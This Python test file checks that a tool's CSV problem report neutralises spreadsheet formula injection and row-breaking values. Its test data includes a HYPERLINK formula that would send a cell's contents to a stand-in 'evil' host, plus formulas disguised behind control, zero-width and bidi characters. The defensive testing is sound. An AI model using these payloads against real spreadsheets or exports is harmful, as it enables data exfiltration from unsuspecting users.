"""`check --format csv`: a survey value can neither break the table into new rows nor
start a formula in the spreadsheet the table is opened in."""

from __future__ import annotations

import csv
import io

import pytest

from snapshotpdf.batch.report import PROBLEM_COLUMNS, problems_csv, safe_cell
from snapshotpdf.models import Location, Problem, Severity

HOSTILE = [
    '=HYPERLINK("http://evil/?x="&A1,"x")',
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "a\rb",
    " =1+1",
    "\u200b=1+1",
    "\x00@SUM(1)",
    "  -2",
    "Lima, Peru",
    'say "hi"',
]


def test_the_csv_reads_back_exactly_the_rows_written() -> None:
    problems = [
        Problem(Severity.WARNING, Location("s.csv", None, n, "F", "Population"), "bad", value)
        for n, value in enumerate(HOSTILE, 2)
    ]
    rows = list(csv.reader(io.StringIO(problems_csv(problems), newline="")))
    assert rows[0] == list(PROBLEM_COLUMNS)
    assert len(rows) == 1 + len(HOSTILE)
    for row, value in zip(rows[1:], HOSTILE, strict=True):
        assert row[PROBLEM_COLUMNS.index("value")] == safe_cell(value)
    for row in rows[1:]:
        for cell in row:
            visible = cell.lstrip(" \t\r\n\x00\u200b")
            assert cell.startswith("'") or not visible.startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("\r=1+1", "'\r=1+1"),
        (" =1+1", "' =1+1"),
        ("\u200b+1", "'\u200b+1"),
        ("\u202e@SUM(1)", "'\u202e@SUM(1)"),
        (" Lima", " Lima"),
        ("", ""),
        ("   ", "   "),
    ],
)
def test_a_formula_after_spaces_or_invisible_characters_stays_text(value: str, safe: str) -> None:
    assert safe_cell(value) == safe
